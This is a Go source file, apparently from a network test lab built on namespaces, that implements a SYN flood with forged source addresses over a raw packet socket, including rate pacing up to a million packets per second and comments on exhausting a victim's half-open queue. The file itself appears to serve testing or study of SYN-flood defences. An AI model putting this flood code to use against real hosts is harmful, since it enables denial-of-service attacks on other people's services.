package lab

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"sync/atomic"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

const (
	mostSpoofRate    = 1_000_000
	mostSpoofSources = 1 << 20
	// spoofStep is the pause between two bursts.
	spoofStep = time.Millisecond
)

// SpoofConfig describes a Spoof.
type SpoofConfig struct {
	Target netip.AddrPort
	// Sources are forged, chosen at random for every packet; all of the target's family, at most
	// 1,048,576. Those of SpoofRange never answer, so that each SYN stays half-open until the victim
	// gives up; those of others (of AttackRange, or of a client) answer the victim's SYN-ACK with a
	// reset, as living hosts do, so that no queue fills. A few sources make the flood of a few
	// hosts; 60,000 or more are too many to be real.
	Sources []netip.Addr
	// Rate is SYNs per second, 1 to 1,000,000. What the machine cannot send is not made up for.
	Rate int
}

// Spoof is the SYN flood with forged sources: frames written to the attackers' link, each with a
// random source, port and sequence number.
type Spoof struct {
	config SpoofConfig
	frame  *synFrame
	fd     int
	sent   atomic.Uint64
	lost   atomic.Uint64
	task   *task
}

// SpoofCounts are a Spoof's counters at one moment.
type SpoofCounts struct {
	Sent uint64 // handed to the link
	Lost uint64 // refused by the link, as its queue was full
}

// StartSpoof starts the flood from n, which must be the attackers' or the clients' namespace. It
// needs CAP_NET_RAW.
func StartSpoof(ctx context.Context, n *Namespace, c SpoofConfig) (*Spoof, error) {
	if err := c.check(); err != nil {
		return nil, fmt.Errorf("start the spoofed flood: %w", err)
	}
	s := &Spoof{config: c}
	err := n.Do(s.open)
	if err != nil {
		return nil, fmt.Errorf("start the spoofed flood from %q: %w", n.name, err)
	}
	s.task, err = n.startTask(ctx, s.loop)
	if err != nil {
		unix.Close(s.fd)
		return nil, fmt.Errorf("start the spoofed flood: %w", err)
	}
	return s, nil
}

func (c SpoofConfig) check() error {
	if err := checkPath(c.Sources, c.Target); err != nil {
		return err
	}
	if len(c.Sources) > mostSpoofSources {
		return fmt.Errorf("%d sources, at most %d are allowed", len(c.Sources), mostSpoofSources)
	}
	if c.Rate < 1 || c.Rate > mostSpoofRate {
		return fmt.Errorf("rate %d: 1 to %d packets per second are allowed", c.Rate, mostSpoofRate)
	}
	return nil
}

// open makes the packet socket, bound to the link that leads to the victim. Protocol 0: it sends
// only, and receives nothing; see packet(7).
func (s *Spoof) open() error {
	link, err := netlink.LinkByName("victim")
	if err != nil {
		return fmt.Errorf("find the link to the victim: %w", err)
	}
	neighbours, err := netlink.NeighList(link.Attrs().Index, unix.AF_INET)
	if err != nil {
		return fmt.Errorf("list the neighbours: %w", err)
	}
	if len(neighbours) == 0 {
		return errors.New("the victim is no neighbour here")
	}
	s.frame = newSynFrame(link.Attrs().HardwareAddr, neighbours[0].HardwareAddr, s.config.Target)
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
	if errors.Is(err, unix.EPERM) {
		return fmt.Errorf("open a packet socket: %w: run as root (CAP_NET_RAW)", err)
	}
	if err != nil {
		return fmt.Errorf("open a packet socket: %w", err)
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Ifindex: link.Attrs().Index}); err != nil {
		unix.Close(fd)
		return fmt.Errorf("bind a packet socket: %w", err)
	}
	s.fd = fd
	return nil
}

func (s *Spoof) loop(ctx context.Context) error {
	defer unix.Close(s.fd)
	batch := newBatch(s.frame.size())
	random := rand.New(rand.NewPCG(rand.Uint64(), rand.Uint64()))
	ticker := time.NewTicker(spoofStep)
	defer ticker.Stop()
	// A hundredth of a second of burst survives a busy scheduler without changing the rate.
	pace := newPace(s.config.Rate, s.config.Rate/100, time.Now())
	for {
		select {
		case <-ctx.Done():
			return nil
		case now := <-ticker.C:
			for due := pace.due(now, mostSpoofRate); due > 0; {
				n := min(due, batchSize)
				if err := s.burst(batch, random, n); err != nil {
					return err
				}
				due -= n
			}
		}
	}
}

// burst sends n frames. What a full queue refuses is lost, as on a real link.
func (s *Spoof) burst(b *batch, random *rand.Rand, n int) error {
	for i := range n {
		source := s.config.Sources[random.IntN(len(s.config.Sources))]
		port := uint16(1024 + random.IntN(1<<16-1024))
		s.frame.write(b.frame(i), source, port, random.Uint32())
	}
	sent, err := b.send(s.fd, n)
	s.sent.Add(uint64(sent))
	s.lost.Add(uint64(n - sent))
	if err != nil && !errors.Is(err, unix.EAGAIN) && !errors.Is(err, unix.ENOBUFS) {
		return fmt.Errorf("send SYNs: %w", err)
	}
	return nil
}

// Counts returns the counters.
func (s *Spoof) Counts() SpoofCounts { return SpoofCounts{Sent: s.sent.Load(), Lost: s.lost.Load()} }

// Stop ends the flood, waits for it, and returns the error that ended it early, if any.
func (s *Spoof) Stop() error { return s.task.stop() }
